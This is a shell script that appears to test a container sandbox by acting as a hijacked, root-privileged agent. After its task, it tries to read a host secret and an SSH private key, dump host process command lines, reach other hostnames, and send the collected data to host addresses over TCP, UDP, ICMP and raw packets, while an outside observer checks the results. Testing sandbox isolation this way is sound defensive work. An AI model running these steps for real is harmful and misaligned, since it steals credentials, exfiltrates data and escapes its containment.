#!/bin/sh
# An agent that does its task, and then everything that somebody who has hijacked it might try. It is root in its container.
# Nobody has to believe what it says: the demonstration looks from outside at what has become of each attempt.
set -u
# TOKEN, WEB and SINK (ports), ADDRESSES (of the host), SECRET (a path on the host)
# shellcheck source=/dev/null
. /workspace/task.env

# attempt WHAT COMMAND...: says in one line how it ended, and keeps the answer
attempt() {
	what=$1
	shift
	end=refused
	answer=$("$@" 2>&1) && end=worked
	why=$(printf '%s\n' "$answer" | sed -n '
		s/.*\\nreason: \([^\\]*\)\\n.*/ (\1)/p; t
		s/.*"errno":"\([^"]*\)".*/ (\1)/p; t
		s/.*"detail":"\([^"]*\)".*/ (\1)/p; t
		s/.*: \(No such file.*\)/ (\1)/p' | tail -n 1)
	echo "$what: $end$why"
	printf '%s\n' "$answer" >>/workspace/answers
}

# Its task
echo "$TOKEN" >/workspace/report.txt
attempt "fetch http://web.test:$WEB/" probe http "web.test:$WEB" web.test

# Other names
attempt "look up other.test" probe dns other.test -
attempt "fetch http://other.test:$WEB/" probe http "other.test:$WEB" other.test
attempt "ask web.test for Host: other.test" probe http "web.test:$WEB" other.test

# Files and processes of the host; --mount asked for the home at /host
attempt "read $SECRET" cat "$SECRET"
attempt "read /host/.ssh/id_ed25519" cat /host/.ssh/id_ed25519
cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' >/workspace/processes

# Packets to the host; in none of these cases does a packet have to be answered
loot=$(cat /workspace/answers)
for a in $ADDRESSES; do
	case $a in *:*) to="[$a]:$SINK" ;; *) to="$a:$SINK" ;; esac
	attempt "TCP to $to" probe -patience 300ms tcp "$to" "$loot"
	attempt "UDP to $to" probe -patience 300ms udp "$to" "$loot"
	case $a in *:*) continue ;; esac
	attempt "ping $a" probe -patience 300ms icmp "$a"
	attempt "ping $a, unprivileged" probe -patience 300ms ping "$a"
	attempt "raw packet to $a" probe -patience 300ms raw 253 "$a"
done

# Let the person outside look while it runs.
touch /workspace/finished
while [ ! -e /workspace/looked ]; do sleep 0.02; done
